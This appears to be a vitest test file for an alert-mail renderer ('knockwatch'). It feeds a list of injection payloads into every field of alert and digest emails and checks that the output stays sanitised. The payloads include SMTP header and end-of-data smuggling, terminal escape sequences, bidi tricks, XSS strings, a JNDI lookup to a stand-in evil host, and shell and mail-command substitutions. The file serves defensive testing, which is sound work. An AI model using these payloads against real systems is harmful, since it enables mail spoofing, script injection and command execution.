import { describe, expect, it } from 'vitest';
import { renderDigest } from '../../src/notify/digest.ts';
import { renderAlert } from '../../src/notify/render.ts';
import type { RenderContext } from '../../src/notify/render-context.ts';
import type { Incident } from '../../src/types.ts';
import { context, incident, target } from '../support/notify.ts';

/** What people write into names, prefixes and look-ups. */
const PAYLOADS = {
  'a forged log line': 'evil\nNov 23 03:00:01 kw[1]: ALERT from 192.0.2.88',
  'a carriage return': 'evil\rX-Evil: 1',
  'a header and a body': 'x\r\nBcc: v@example.net\r\n\r\nbody',
  'a vertical tab and a form feed': 'a\x0b\x0cb',
  'a next line': 'a\x85b',
  'a line separator': 'a\u2028b\u2029c',
  'a window title': '\x1b]0;pwn\x07',
  'a cleared screen': '\x1b[2J\x1b[H',
  'a C1 colour': '\x9b31m',
  'a device string': '\x1bP1$r\x1b\\',
  'a clipboard write': '\x1b]52;c;cHdu\x07',
  'a hidden link': '\x1b]8;;http://evil.example.net\x1b\\x',
  'a delete': 'a\x7fb',
  'a reversed name': '\u202egpj.exe',
  isolates: '\u2066a\u2069',
  'zero width': 'a\u200b\u200d\ufeffb',
  'invisible tags': 'a\u{e0041}\u{e0042}b',
  'a lone surrogate': 'a\ud800b',
  'a nul': 'a\0b',
  'an end of data': '\r\n.\r\nMAIL FROM:<q@example.net>\r\n',
  'bare ends of data': 'a\n.\nb\r.\rc',
  'a script': '<script>alert(1)</script>',
  'a remote image': '<img src=//evil.example.net/x onerror=alert(1)>',
  'an attribute': '" onmouseover="alert(1)',
  'a single quote': "' style='background:url(//evil.example.net)'",
  'an entity': '&#x0a;&lt;b&gt;',
  'a link': '<a href="javascript:alert(1)">x</a>',
  'an end of pre': '</pre></td></table><h1>owned</h1>',
  'a comment': '<!-- --><b>',
  'a look-up': `$\{jndi:ldap://evil.example.net/a}`,
  templates: '{{7*7}} <%= 7*7 %> #{7*7} %s%n',
  shells: '$(id) `id` ; id | id && id',
  'a mail command': '\n~!touch /tmp/p\n',
  'a replacement pattern': "$& $1 $` $' $$",
  'a long token': 'x'.repeat(5_000),
  'many wide characters': '日😀'.repeat(3_000),
} as const;

type Place = (payload: string) => readonly [Partial<Incident>, Partial<RenderContext>];

/** Everywhere in a mail that holds words which are not ours. */
const PLACES: Readonly<Record<string, Place>> = {
  source: (x) => [{ sources: [x] }, {}],
  'one of several sources': (x) => [{ sources: [x, '198.51.100.7'] }, {}],
  'host name': (x) => [{ targets: [target('192.0.2.10', 143, 0, { name: x })] }, {}],
  address: (x) => [{ targets: [target(x, 143, 0), target('192.0.2.10', 143, 0)] }, {}],
  transport: (x) => [
    { transports: [x], targets: [target('192.0.2.10', 64_999, 0, { transport: x })], ports: [] },
    {},
  ],
  flags: (x) => [{ tcpFlags: [x] }, {}],
  'device name': (x) => [{ observers: [{ hostname: x, address: x, product: x, rule: x }] }, {}],
  sentence: (x) => [{ sentence: x }, {}],
  remark: (x) => [{ remarks: [x] }, {}],
  'incident id': (x) => [{ id: x }, {}],
  'rule title': (x) => [{}, { rule: { id: x, title: x, conditionSentence: x, position: x } }],
  'raw line': (x) => [{}, { lines: [{ text: x, receivedAtMs: 0, peer: x }] }],
  'reverse DNS': (x) => [{}, { sourceName: { name: x, confirmed: false } }],
  'look-up': (x) => [{}, { evidence: [{ label: x, text: x }] }],
  reason: (x) => [{}, { decision: { send: true, reason: 'first-sight', because: x } }],
  'service name': (x) => [{}, { serviceName: () => x }],
  collector: (x) => [{}, { hostName: x }],
};

/** Our own structure: the tags of a mail without anything hostile in it, counted. */
function tags(html: string): string {
  return [...new Set(html.match(/<\/?[a-z!][^\s>]*/gi))].toSorted().join(' ');
}

describe('a mail with hostile words in it', () => {
  const usual = tags(
    renderAlert(incident(), context({ evidence: [{ label: 'whois', text: 'x' }], linesOmitted: 1 })).html,
  );
  const rows = Object.keys(PLACES).flatMap((place) =>
    Object.keys(PAYLOADS).map((payload) => [payload, place] as const),
  );

  it('is tried in more than three hundred ways', () => {
    expect(rows.length).toBeGreaterThanOrEqual(300);
  });

  it.each(rows)('shows %s in %s and nothing happens', (name, place) => {
    const payload = PAYLOADS[name as keyof typeof PAYLOADS];
    const [incidentExtra, contextExtra] = PLACES[place]!(payload);
    const { subject, text, html } = renderAlert(incident(incidentExtra), context(contextExtra));

    expect(subject).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
    expect(subject.length).toBeLessThanOrEqual(180);
    expect(subject.startsWith('[knockwatch] ')).toBe(true);
    for (const part of [text, html]) {
      expect(part.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
      expect(part).not.toMatch(/^(\.|Bcc:|X-Evil:|~!|Nov 23)/m);
      expect(Buffer.byteLength(part)).toBeLessThan(60_000);
    }
    for (const line of text.split('\n')) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(998);
    for (const tag of tags(html).split(' ')) expect(usual.split(' ')).toContain(tag);
    expect(html).not.toMatch(/<[^>]*\s(on\w+|src|href)\s*=/i);
    expect(html).not.toMatch(/<[^>]*(javascript:|evil)/i);
  });

  it('is not interpreted', () => {
    for (const name of ['a look-up', 'templates', 'shells', 'a replacement pattern'] as const) {
      const { text } = renderAlert(
        incident(),
        context({ lines: [{ text: PAYLOADS[name], receivedAtMs: 0, peer: 'x' }] }),
      );
      expect(text).toContain(PAYLOADS[name]);
    }
  });

  it.each(Object.entries(PAYLOADS))('is harmless in a digest: %s', (_name, payload) => {
    const { subject, text, html } = renderDigest(
      {
        held: [
          {
            incidentId: payload,
            ruleId: payload,
            severity: 'low',
            headline: payload,
            sources: [payload],
            ports: [1],
            hits: 1,
            firstSeenMs: 0,
            lastSeenMs: 0,
          },
        ],
        unlisted: 0,
        unlistedIds: [],
        hits: 1,
        sources: 1,
        ports: 1,
        bySeverity: new Map([['low', 1]]),
        firstSeenMs: 0,
        lastSeenMs: 0,
      },
      { zone: 'UTC', hostName: payload, decision: { send: true, reason: 'digest', because: payload } },
    );
    for (const part of [subject, text, html]) {
      expect(part.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
      expect(part).not.toMatch(/^(\.|Bcc:|X-Evil:|~!|Nov 23)/m);
    }
    expect(subject).not.toContain('\n');
    for (const line of text.split('\n')) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(998);
    expect(html).not.toMatch(/<[^>]*(javascript:|evil|onerror|onmouseover)/i);
    expect(html).not.toContain('<script');
  });
});
